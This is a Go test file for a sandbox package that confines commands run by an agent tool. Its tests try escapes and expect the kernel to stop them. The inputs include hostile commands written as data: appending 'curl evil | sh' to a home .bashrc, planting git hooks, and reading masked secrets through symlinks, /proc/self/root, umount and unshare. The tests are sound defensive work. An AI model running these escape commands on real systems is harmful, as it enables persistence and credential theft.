package confine_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/agentspec/agentspec/internal/confine"
)

// Every escape below runs twice: confined, where the kernel must stop it,
// and unconfined, where it must succeed (where the mechanism is not one
// `sandbox: off` keeps too), which shows the test would notice an escape.

// arena is a box with a directory beside W and T that the command must not
// change, and files in it.
type arena struct {
	box
	out string // outside W and T
}

func newArena(t *testing.T) arena {
	t.Helper()
	b := newBox(t)
	a := arena{box: b, out: filepath.Join(filepath.Dir(b.root), "outside")}
	require.NoError(t, os.MkdirAll(filepath.Join(a.out, "home"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(a.out, "file"), []byte("original\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(a.out, "home", ".bashrc"), []byte("# rc\n"), 0o644))
	return a
}

func (a arena) expand(s string) string {
	q := func(p string) string { return "'" + p + "'" }
	return strings.NewReplacer("$OUT", q(a.out), "$W", q(a.root), "$T", q(a.temp)).Replace(s)
}

func (a arena) read(t *testing.T, rel string) string {
	b, err := os.ReadFile(filepath.Join(a.out, rel))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func (a arena) exists(rel string) bool {
	_, err := os.Lstat(filepath.Join(a.out, rel))
	return err == nil
}

func TestWritesOutsideAreRefused(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name    string
		script  string
		escaped func(t *testing.T, a arena) bool
	}{
		{"relative path through ..", "echo pwned > ../outside/new",
			func(t *testing.T, a arena) bool { return a.exists("new") }},
		{"absolute path", "echo pwned > $OUT/new",
			func(t *testing.T, a arena) bool { return a.exists("new") }},
		{"overwrite through a symlink", "ln -s $OUT/file link && echo pwned > link",
			func(t *testing.T, a arena) bool { return a.read(t, "file") != "original\n" }},
		{"symlink planted outside", "ln -s /etc/passwd $OUT/planted",
			func(t *testing.T, a arena) bool { return a.exists("planted") }},
		{"append through a hard link", "ln $OUT/file hard && echo pwned >> hard",
			func(t *testing.T, a arena) bool { return a.read(t, "file") != "original\n" }},
		{"mv a file out", "echo pwned > mine && mv mine $OUT/moved",
			func(t *testing.T, a arena) bool { return a.exists("moved") }},
		{"mv a file in, deleting it outside", "mv $OUT/file stolen",
			func(t *testing.T, a arena) bool { return !a.exists("file") }},
		{"rm outside", "rm $OUT/file",
			func(t *testing.T, a arena) bool { return !a.exists("file") }},
		{"truncate outside", ": > $OUT/file",
			func(t *testing.T, a arena) bool { return a.read(t, "file") != "original\n" }},
		{"chmod outside", "chmod 0777 $OUT/file",
			func(t *testing.T, a arena) bool {
				fi, err := os.Stat(filepath.Join(a.out, "file"))
				return err == nil && fi.Mode().Perm() == 0o777
			}},
		{"touch -d outside", "touch -d 2001-02-03 $OUT/file",
			func(t *testing.T, a arena) bool {
				fi, err := os.Stat(filepath.Join(a.out, "file"))
				return err == nil && fi.ModTime().Year() == 2001
			}},
		{"mkdir outside", "mkdir $OUT/dir",
			func(t *testing.T, a arena) bool { return a.exists("dir") }},
		{"the user's home dotfile", "echo 'curl evil | sh' >> $OUT/home/.bashrc",
			func(t *testing.T, a arena) bool { return a.read(t, "home/.bashrc") != "# rc\n" }},
	}
	for _, m := range modes {
		for _, tc := range cases {
			t.Run(m.name+"/"+tc.name, func(t *testing.T) {
				t.Parallel()
				needSandbox(t, m.sandbox)
				a := newArena(t)
				r := run(t, t.Context(), a.command(t, m.sandbox, a.expand(tc.script)))
				if m.sandbox {
					assert.False(t, tc.escaped(t, a), "escaped: %+v", r)
					assert.NotZero(t, r.exit.Code, "the write fails visibly")
					t.Log(r.stderr)
				} else {
					assert.True(t, tc.escaped(t, a), "the unconfined command should have succeeded: %+v", r)
				}
			})
		}
	}
}

// TestSharedTempDirsAreReadOnly writes where commands usually leave files:
// the command's own TMPDIR (T) is the place for them.
func TestSharedTempDirsAreReadOnly(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		for _, dir := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
			t.Run(m.name+dir, func(t *testing.T) {
				t.Parallel()
				needSandbox(t, m.sandbox)
				if _, err := os.Stat(dir); err != nil {
					t.Skip(dir, " does not exist here")
				}
				a := newArena(t)
				// Named after the whole temporary path, which is the
				// subtest's own: its last element alone ("001") is the same
				// in the confined and unconfined runs, which run at once.
				target := filepath.Join(dir, "agentspec-confine-"+strings.ReplaceAll(strings.Trim(filepath.Dir(a.root), "/"), "/", "-"))
				t.Cleanup(func() { os.Remove(target) })
				r := run(t, t.Context(), a.command(t, m.sandbox, "echo pwned > "+target+"; echo ok > $TMPDIR/mine && cat $TMPDIR/mine"))
				_, err := os.Stat(target)
				assert.Equal(t, !m.sandbox, err == nil, "file created in %s: %+v", dir, r)
				assert.Equal(t, "ok\n", r.stdout, "T is writable")
			})
		}
	}
}

// TestWorkspaceAndTempBelowDev confines a command whose W and T lie below
// /dev, as they do when TMPDIR or the workspace is on /dev/shm: the
// command's own /dev, which covers the host's, still shows them, writable,
// their masks and .git as they are below any other directory, and nothing
// else of the host's /dev/shm, not even the directory that holds them.
func TestWorkspaceAndTempBelowDev(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			base, err := os.MkdirTemp("/dev/shm", "agentspec-confine-test-")
			if err != nil {
				t.Skipf("no directory can be made below /dev here (%v): the case needs one, as a TMPDIR on /dev/shm is", err)
			}
			t.Cleanup(func() { os.RemoveAll(base) })
			b := box{root: filepath.Join(base, "w"), temp: filepath.Join(base, "t")}
			for _, dir := range []string{b.root, b.temp, filepath.Join(b.temp, "home"), filepath.Join(b.root, ".git")} {
				require.NoError(t, os.Mkdir(dir, 0o700))
			}
			require.NoError(t, os.WriteFile(filepath.Join(b.root, ".env"), []byte("s3cret\n"), 0o600))
			// Beside W and T, in the directory that holds them: not shown.
			require.NoError(t, os.WriteFile(filepath.Join(base, "beside"), []byte("beside\n"), 0o644))
			c := b.command(t, m.sandbox, "echo a > f && cat f && echo b > $TMPDIR/x && cat $TMPDIR/x && cat .env; "+
				"echo c > .git/c; echo d > ../outside; cat ../beside; echo done")
			c.Policy.Masks = []string{filepath.Join(b.root, ".env")}
			c.Policy.ReadOnly = []string{filepath.Join(b.root, ".git")}
			r := run(t, t.Context(), c)
			_, gitErr := os.Stat(filepath.Join(b.root, ".git", "c"))
			_, outErr := os.Stat(filepath.Join(base, "outside"))
			if m.sandbox {
				assert.Equal(t, "a\nb\ndone\n", r.stdout, r.stderr)
				assert.ErrorIs(t, gitErr, os.ErrNotExist, ".git is read-only")
				assert.ErrorIs(t, outErr, os.ErrNotExist, "beside W and T is read-only")
			} else {
				assert.Equal(t, "a\nb\ns3cret\nbeside\ndone\n", r.stdout, r.stderr)
				assert.NoError(t, gitErr)
				assert.NoError(t, outErr)
			}
		})
	}
}

func TestWorkspaceAndTempAreWritable(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			a := newArena(t)
			r := run(t, t.Context(), a.command(t, m.sandbox, a.expand(
				"mkdir -p d && echo a > d/f && mv d/f g && ln g h && ln -s g s && chmod 600 g && touch -d 2001-02-03 g && "+
					"echo b > $T/x && mv $T/x y && echo c >> ~/.bashrc && cat g y ~/.bashrc && rm -r d")))
			assert.Equal(t, "a\nb\nc\n", r.stdout, r.stderr)
			assert.Zero(t, r.exit.Code)
		})
	}
}

func TestGitDirsAreReadOnly(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			a := newArena(t)
			gitDir := filepath.Join(a.root, "sub", ".git")
			require.NoError(t, os.MkdirAll(filepath.Join(gitDir, "hooks"), 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(gitDir, "config"), []byte("[core]\n"), 0o644))
			// A worktree's .git is a file.
			require.NoError(t, os.WriteFile(filepath.Join(a.root, ".git"), []byte("gitdir: elsewhere\n"), 0o644))
			c := a.command(t, m.sandbox, "cat sub/.git/config .git; "+
				"echo '[core] hooksPath = /tmp' >> sub/.git/config; echo evil > sub/.git/hooks/pre-commit; "+
				"echo 'gitdir: /tmp' > .git; mv sub/.git sub/git; echo ok > sub/other")
			c.Policy.ReadOnly = []string{gitDir, filepath.Join(a.root, ".git")}
			r := run(t, t.Context(), c)
			assert.Equal(t, "[core]\ngitdir: elsewhere\n", r.stdout, "readable")
			config, _ := os.ReadFile(filepath.Join(gitDir, "config"))
			_, hookErr := os.Stat(filepath.Join(gitDir, "hooks", "pre-commit"))
			dotGit, _ := os.ReadFile(filepath.Join(a.root, ".git"))
			changed := string(config) != "[core]\n" || hookErr == nil || string(dotGit) != "gitdir: elsewhere\n"
			assert.Equal(t, !m.sandbox, changed, "%+v", r)
			other, _ := os.ReadFile(filepath.Join(a.root, "sub", "other"))
			assert.Equal(t, "ok\n", string(other), "the rest of W stays writable")
		})
	}
}

func TestSecretsReadAsEmpty(t *testing.T) {
	t.Parallel()
	const secret = "hunter2"
	cases := []struct{ name, script string }{
		{"cat", "cat .env keys/id $OUT/home/.ssh/id_rsa"},
		{"symlink", "ln -s .env l1 && ln -s $OUT/home/.ssh l2 && cat l1 l2/id_rsa"},
		{"cp", "cp .env c1 && cp -r keys c2 && cat c1 c2/*"},
		{"tar", "tar cf - .env keys $OUT/home/.ssh 2>/dev/null | tar xOf -"},
		{"grep -r", "grep -r " + secret + " . $OUT/home"},
		{"hard link", "ln .env h1; cat h1"},
		{"proc root", "cat /proc/self/root$W/.env /proc/1/root$W/.env"},
		{"umount the masks", "umount .env keys $OUT/home/.ssh; cat .env keys/id $OUT/home/.ssh/id_rsa"},
		{"umount in a nested user namespace", "unshare -rm sh -c 'umount .env keys; cat .env keys/id'"},
	}
	for _, m := range modes {
		for _, tc := range cases {
			t.Run(m.name+"/"+tc.name, func(t *testing.T) {
				t.Parallel()
				needSandbox(t, m.sandbox)
				a := newArena(t)
				ssh := filepath.Join(a.out, "home", ".ssh")
				require.NoError(t, os.MkdirAll(ssh, 0o700))
				require.NoError(t, os.WriteFile(filepath.Join(ssh, "id_rsa"), []byte(secret+"\n"), 0o600))
				require.NoError(t, os.WriteFile(filepath.Join(a.root, ".env"), []byte("KEY="+secret+"\n"), 0o600))
				require.NoError(t, os.WriteFile(filepath.Join(a.root, ".env.example"), []byte("KEY=visible\n"), 0o644))
				require.NoError(t, os.MkdirAll(filepath.Join(a.root, "keys"), 0o700))
				require.NoError(t, os.WriteFile(filepath.Join(a.root, "keys", "id"), []byte(secret+"\n"), 0o600))
				c := a.command(t, m.sandbox, a.expand(tc.script+"; cat .env.example"))
				c.Policy.Masks = []string{filepath.Join(a.root, ".env"), filepath.Join(a.root, "keys"), ssh, filepath.Join(a.root, "gone")}
				r := run(t, t.Context(), c)
				assert.Equal(t, !m.sandbox, strings.Contains(r.stdout, secret), "%+v", r)
				assert.Contains(t, r.stdout, "KEY=visible", "an unmasked file stays readable")
			})
		}
	}
}

// TestLandlockIsInForce writes to a device the mounts leave writable
// (/dev/urandom is bound from the host's /dev): only Landlock, which
// grants writes to /dev/null, /dev/zero and /dev/full alone, refuses it.
func TestLandlockIsInForce(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			a := newArena(t)
			r := run(t, t.Context(), a.command(t, m.sandbox, "echo x > /dev/urandom && echo wrote; echo x > /dev/null && echo null"))
			if m.sandbox {
				assert.Equal(t, "null\n", r.stdout)
				assert.Contains(t, r.stderr, "Permission denied")
			} else {
				assert.Equal(t, "wrote\nnull\n", r.stdout)
			}
		})
	}
}

// TestHostIPCIsInvisible: System V IPC objects of the host (here a shared
// memory segment the test makes) are out of the command's sight.
func TestHostIPCIsInvisible(t *testing.T) {
	t.Parallel()
	key := int(time.Now().UnixNano()&0x3fffffff) | 0x40000000
	id, err := unix.SysvShmGet(key, 4096, unix.IPC_CREAT|0o600)
	require.NoError(t, err)
	t.Cleanup(func() { _, _ = unix.SysvShmCtl(id, unix.IPC_RMID, nil) })
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			a := newArena(t)
			r := run(t, t.Context(), a.command(t, m.sandbox, "ipcs -m"))
			assert.Equal(t, !m.sandbox, strings.Contains(r.stdout, fmt.Sprintf("0x%08x", key)), "%+v", r)
		})
	}
}

// TestRootThroughASymlink: W named through a symlink is still W (its
// mount is found by its real name, so it stays writable) and its masks
// and .git still apply.
func TestRootThroughASymlink(t *testing.T) {
	t.Parallel()
	needSandbox(t, true)
	a := newArena(t)
	link := filepath.Join(a.out, "link-to-w")
	require.NoError(t, os.Symlink(a.root, link))
	require.NoError(t, os.WriteFile(filepath.Join(a.root, ".env"), []byte("hunter2\n"), 0o600))
	require.NoError(t, os.Mkdir(filepath.Join(a.root, ".git"), 0o755))
	c := a.command(t, true, "echo ok > new && cat new .env; echo x > .git/config")
	c.Dir = link
	c.Policy.Root = link
	c.Policy.Masks = []string{filepath.Join(link, ".env")}
	c.Policy.ReadOnly = []string{filepath.Join(link, ".git")}
	r := run(t, t.Context(), c)
	assert.Equal(t, "ok\n", r.stdout, "%+v", r)
	assert.NoFileExists(t, filepath.Join(a.root, ".git", "config"))
}

// deepTree makes, below root, a chain of directories whose path is longer
// than PATH_MAX (a command may move a directory that deep), through an
// os.Root, which opens one component at a time. It returns the chain's
// path from root and the chain cut into pieces a shell can cd through.
func deepTree(t *testing.T, root string) (rel string, pieces []string) {
	t.Helper()
	name := strings.Repeat("d", 250)
	var piece []string
	for i := range 24 {
		piece = append(piece, fmt.Sprintf("%s%02d", name[:248], i))
		if len(piece) == 8 {
			pieces = append(pieces, filepath.Join(piece...))
			piece = nil
		}
	}
	rel = filepath.Join(pieces...)
	r, err := os.OpenRoot(root)
	require.NoError(t, err)
	defer r.Close()
	require.NoError(t, r.MkdirAll(rel, 0o755))
	require.Greater(t, len(filepath.Join(root, rel)), unix.PathMax)
	return rel, pieces
}

// TestMasksBeyondPathMax: a secret and a .git whose paths are longer than
// PATH_MAX are still covered: the init opens them a piece at a time.
func TestMasksBeyondPathMax(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			a := newArena(t)
			rel, pieces := deepTree(t, a.root)
			r, err := os.OpenRoot(a.root)
			require.NoError(t, err)
			defer r.Close()
			require.NoError(t, r.WriteFile(filepath.Join(rel, ".env"), []byte("hunter2\n"), 0o600))
			require.NoError(t, r.Mkdir(filepath.Join(rel, ".git"), 0o755))
			script := ""
			for _, p := range pieces {
				script += "cd -P '" + p + "' && "
			}
			c := a.command(t, m.sandbox, script+"{ cat .env; echo planted > .git/hook; }")
			c.Policy.Masks = []string{filepath.Join(a.root, rel, ".env")}
			c.Policy.ReadOnly = []string{filepath.Join(a.root, rel, ".git")}
			res := run(t, t.Context(), c)
			_, err = r.Stat(filepath.Join(rel, ".git", "hook"))
			assert.Equal(t, !m.sandbox, strings.Contains(res.stdout, "hunter2"), "%+v", res)
			assert.Equal(t, !m.sandbox, err == nil, "a file planted in .git: %+v", res)
		})
	}
}

// TestMaskThatCannotBeMadeStopsTheCommand: a path of the Policy that the
// init cannot cover (here a name longer than any file system takes) fails
// Start with a *MaskError naming it, and nothing of the command runs.
func TestMaskThatCannotBeMadeStopsTheCommand(t *testing.T) {
	t.Parallel()
	needSandbox(t, true)
	for _, field := range []string{"Masks", "ReadOnly"} {
		t.Run(field, func(t *testing.T) {
			t.Parallel()
			a := newArena(t)
			root, err := filepath.EvalSymlinks(a.root)
			require.NoError(t, err)
			bad := filepath.Join(root, strings.Repeat("x", 300))
			c := a.command(t, true, "echo ran > ran")
			if field == "Masks" {
				c.Policy.Masks = []string{bad}
			} else {
				c.Policy.ReadOnly = []string{bad}
			}
			_, err = confine.Start(t.Context(), c)
			me, ok := errors.AsType[*confine.MaskError](err)
			require.True(t, ok, "a *MaskError, got %v", err)
			assert.Equal(t, bad, me.Path)
			assert.ErrorIs(t, err, syscall.ENAMETOOLONG)
			assert.NoFileExists(t, filepath.Join(a.root, "ran"))
		})
	}
}

// TestMasksOnNamesNotUTF8: a secret, a .git and a working directory whose
// names are not UTF-8 are covered and entered as named, byte for byte.
func TestMasksOnNamesNotUTF8(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needSandbox(t, m.sandbox)
			a := newArena(t)
			dir := filepath.Join(a.root, "d\xfe")
			require.NoError(t, os.Mkdir(dir, 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(dir, "s\xffcret"), []byte("hunter2\n"), 0o600))
			require.NoError(t, os.Mkdir(filepath.Join(dir, ".git\x80"), 0o755))
			// The script names them with printf: only the Policy and Dir
			// hold the bytes.
			c := a.command(t, m.sandbox, `cd "$(printf 'd\376')" && cat "$(printf 's\377cret')"; echo planted > "$(printf '.git\200')/hook"`)
			c.Policy.Masks = []string{filepath.Join(dir, "s\xffcret")}
			c.Policy.ReadOnly = []string{filepath.Join(dir, ".git\x80")}
			res := run(t, t.Context(), c)
			assert.Equal(t, !m.sandbox, strings.Contains(res.stdout, "hunter2"), "%+v", res)
			assert.Equal(t, !m.sandbox, fileExists(filepath.Join(dir, ".git\x80", "hook")), "a file planted in .git: %+v", res)

			c = a.command(t, m.sandbox, "pwd")
			c.Dir = dir
			assert.Equal(t, dir+"\n", run(t, t.Context(), c).stdout, "started in its directory")
		})
	}
}

func fileExists(path string) bool {
	_, err := os.Lstat(path)
	return err == nil
}

// TestDevicesKeepTheirAttributes: the device nodes a command's /dev binds
// from the host's are the host's own inodes, and a command of the user who
// owns them (root) could chmod, chown or touch them there (`chmod 000
// /dev/null` breaks every program of the host). The times, owner and mode
// are set to what they are, so that nothing changes either way.
func TestDevicesKeepTheirAttributes(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("notice: needs root, who owns the device nodes")
	}
	for _, m := range modes {
		for _, dev := range []string{"/dev/null", "/dev/full", "/dev/urandom"} {
			t.Run(m.name+dev, func(t *testing.T) {
				t.Parallel()
				needSandbox(t, m.sandbox)
				a := newArena(t)
				script := fmt.Sprintf(`touch -c -r %[1]s %[1]s && echo touched; chown "$(stat -c %%u:%%g %[1]s)" %[1]s && echo chowned; `+
					`chmod "$(stat -c %%a %[1]s)" %[1]s && echo chmodded`, dev)
				r := run(t, t.Context(), a.command(t, m.sandbox, script))
				if m.sandbox {
					assert.Empty(t, r.stdout, "%+v", r)
					assert.Contains(t, r.stderr, "Read-only file system")
				} else {
					assert.Equal(t, "touched\nchowned\nchmodded\n", r.stdout, "%+v", r)
				}
			})
		}
	}
}
